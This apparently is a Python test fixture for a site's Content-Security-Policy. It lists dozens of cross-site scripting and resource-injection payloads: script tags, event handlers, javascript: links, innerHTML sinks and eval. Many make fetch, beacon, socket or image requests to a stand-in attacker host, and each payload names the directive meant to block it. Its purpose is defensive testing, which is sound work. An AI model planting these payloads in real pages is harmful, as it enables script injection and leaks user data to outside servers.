"""What a failed filter might let through, piece by piece, and which directive must meet it.

In a breach, `NAME` is its own name: a script that runs calls `alert('NAME')`, and what leaves the
page asks the stranger's server for `/NAME`.
"""

from typing import Final, NamedTuple

from tests.policy.evil import HOST

EVIL: Final = f"http://{HOST}/NAME"


class Breach(NamedTuple):
    """One way for a page to do what it must not."""

    name: str
    text: str
    """HTML, or a statement of a script."""
    directives: str
    """Which directive may report it: one of these, between blanks."""

    def written(self) -> str:
        """Fill in the name."""
        return self.text.replace("EVIL", EVIL).replace("NAME", self.name)


def _listed(table: str) -> tuple[Breach, ...]:
    """Read lines of name, directives and text."""
    rows = (line.split(None, 2) for line in table.strip().splitlines())
    return tuple(Breach(name, text, where.replace(",", " ")) for name, where, text in rows)


MARKUP: Final = _listed("""
inline-script     script-src-elem  <script>alert('NAME')</script>
module-script     script-src-elem  <script type="module">alert('NAME')</script>
data-script       script-src-elem  <script src="data:text/javascript,alert('NAME')"></script>
outside-script    script-src-elem  <script src="EVIL.js"></script>
outside-module    script-src-elem  <script type="module" src="EVIL.js"></script>
svg-script        script-src-elem  <svg><script>alert('NAME')</script></svg>
svg-outside       script-src-elem  <svg><script href="EVIL.js"></script></svg>
looser-policy     script-src-elem  <meta http-equiv="Content-Security-Policy" content="script-src *"><script>alert('NAME')</script>
svg-handler       script-src-attr  <svg onload="alert('NAME')"></svg>
load-handler      script-src-attr  <img src="/favicon.ico" alt="" onload="alert('NAME')">
error-handler     script-src-attr  <img src="/no-such.png" alt="" onerror="alert('NAME')">
hover-handler     script-src-attr  <p onmouseover="alert('NAME')">x</p>
click-handler     script-src-attr  <button type="button" onclick="alert('NAME')">x</button>
focus-handler     script-src-attr  <input autofocus onfocus="alert('NAME')">
toggle-handler    script-src-attr  <details open ontoggle="alert('NAME')">x</details>
body-handler      script-src-attr  <body onpageshow="alert('NAME')">
script-link       script-src-elem  <a href="javascript:alert('NAME')">x</a>
svg-link          script-src-elem  <svg><a href="javascript:alert('NAME')"><text y="9">x</text></a></svg>
script-form       script-src-elem,form-action  <form action="javascript:alert('NAME')"><button>x</button></form>
script-frame      script-src-elem,frame-src  <iframe src="javascript:parent.alert('NAME')"></iframe>
frame             frame-src        <iframe src="EVIL"></iframe>
data-frame        frame-src        <iframe src="data:text/html,<script>alert('NAME')</script>"></iframe>
frame-document    script-src-elem  <iframe srcdoc="<script data-breach='NAME'>parent.alert('NAME')</script>"></iframe>
object            object-src       <object data="EVIL"></object>
embed             object-src       <embed src="EVIL">
image             img-src          <img src="EVIL" alt="">
image-set         img-src          <img srcset="EVIL 1x" alt="">
picture           img-src          <picture><source srcset="EVIL"><img alt=""></picture>
button-image      img-src          <input type="image" src="EVIL" alt="">
svg-image         img-src          <svg><image href="EVIL"/></svg>
background        img-src          <table background="EVIL"><tr><td>x</table>
poster            img-src          <video poster="EVIL"></video>
film              media-src        <video src="EVIL" autoplay muted></video>
sound             media-src        <audio src="EVIL" preload="auto"></audio>
stylesheet        style-src-elem   <link rel="stylesheet" href="EVIL.css">
data-stylesheet   style-src-elem   <link rel="stylesheet" href="data:text/css,h2{background:url(EVIL)}">
inline-import     style-src-elem   <style>@import "EVIL.css";</style>
inline-style      style-src-elem   <style>h1 { background: url(EVIL) }</style>
inline-font       style-src-elem   <style>@font-face { font-family: f; src: url(EVIL) } h1 { font-family: f }</style>
style-attribute   style-src-attr   <p style="background: url(EVIL)">x</p>
preload           img-src          <link rel="preload" as="image" href="EVIL">
module-preload    script-src-elem  <link rel="modulepreload" href="EVIL.js">
prefetch          default-src,prefetch-src  <link rel="prefetch" href="EVIL">
ping              connect-src      <a href="#main" ping="EVIL">x</a>
""")
"""All of these can stand on one page."""

LEADING: Final = _listed("""
base              base-uri         <base href="http://evil.example/"><img src="NAME" alt="">
form              form-action      <form action="EVIL"><button>x</button></form>
button-address    form-action      <form action="/terms/"><button formaction="EVIL">x</button></form>
posted-form       form-action      <form action="EVIL" method="post"><button>x</button></form>
""")
"""These lead away or bend all addresses, so that each has a page of its own."""

SCRIPTED: Final = _listed("""
fetch             connect-src      fetch('EVIL')
quiet-fetch       connect-src      fetch('EVIL', { mode: 'no-cors', keepalive: true })
request           connect-src      const made = new XMLHttpRequest(); made.open('GET', 'EVIL'); made.send()
beacon            connect-src      navigator.sendBeacon('EVIL', 'x')
socket            connect-src      new WebSocket('EVIL'.replace('http', 'ws'))
events            connect-src      new EventSource('EVIL')
picture-object    img-src          new Image().src = 'EVIL'
audio-object      media-src        const made = new Audio('EVIL'); made.preload = 'auto'; made.load()
font-object       font-src         await new FontFace('f', 'url(EVIL)').load()
made-stylesheet   img-src          const made = new CSSStyleSheet(); made.replaceSync('main { background: url(EVIL) }'); document.adoptedStyleSheets = [made]
set-style         img-src          document.body.style.background = 'url(EVIL)'
made-link         style-src-elem   const made = document.createElement('link'); made.rel = 'stylesheet'; made.href = 'EVIL.css'; document.head.append(made)
made-frame        frame-src        const made = document.createElement('iframe'); made.src = 'EVIL'; document.body.append(made)
import            script-src-elem  await import('EVIL.js')
data-import       script-src-elem  await import("data:text/javascript,alert('NAME')")
set-html          require-trusted-types-for  room.innerHTML = `<img class=NAME src=/no-such.png onerror="alert('NAME')">`
set-outer-html    require-trusted-types-for  room.appendChild(document.createElement('p')).outerHTML = `<img class=NAME src=/no-such.png onerror="alert('NAME')">`
insert-html       require-trusted-types-for  room.insertAdjacentHTML('beforeend', `<img class=NAME src=/no-such.png onerror="alert('NAME')">`)
unsafe-html       require-trusted-types-for  room.setHTMLUnsafe(`<img class=NAME src=/no-such.png onerror="alert('NAME')">`)
parser            require-trusted-types-for  room.append(new DOMParser().parseFromString(`<img class=NAME src=/no-such.png onerror="alert('NAME')">`, 'text/html').body.firstChild)
fragment          require-trusted-types-for  room.append(document.createRange().createContextualFragment(`<img class=NAME src=/no-such.png onerror="alert('NAME')">`))
made-document     require-trusted-types-for  const made = document.createElement('iframe'); made.srcdoc = `<i class=NAME></i><script>parent.alert('NAME')</script>`; room.append(made)
script-address    require-trusted-types-for  const made = document.createElement('script'); made.src = 'EVIL.js'; document.head.append(made)
script-text       require-trusted-types-for  const made = document.createElement('script'); made.text = "alert('NAME')"; document.head.append(made)
set-handler       require-trusted-types-for  const made = document.createElement('p'); made.setAttribute('onclick', "alert('NAME')"); room.append(made); made.click()
eval              require-trusted-types-for,script-src  (0, eval)("alert('NAME')")
function          require-trusted-types-for,script-src  new Function("alert('NAME')")()
late-string       require-trusted-types-for,script-src  setTimeout("alert('NAME')", 0)
own-worker        require-trusted-types-for,worker-src  new Worker('/breaches/worker.js#NAME')
made-worker       require-trusted-types-for,worker-src  new Worker(URL.createObjectURL(new Blob(["fetch('EVIL')"])))
shared-worker     require-trusted-types-for,worker-src  new SharedWorker('/breaches/worker.js#NAME')
own-policy        trusted-types    trustedTypes.createPolicy('default', { createHTML: (text) => text }); alert('NAME')
script-address-line  require-trusted-types-for,script-src-elem  location.href = "javascript:void alert('NAME')"
""")
"""What a script of the site itself could be brought to do."""

UNSTOPPED: Final = _listed("""
refresh           none             <meta http-equiv="refresh" content="0; url=EVIL">
link              none             <a href="EVIL">x</a>
""")
"""What no policy stops, so that nothing but the filters does."""
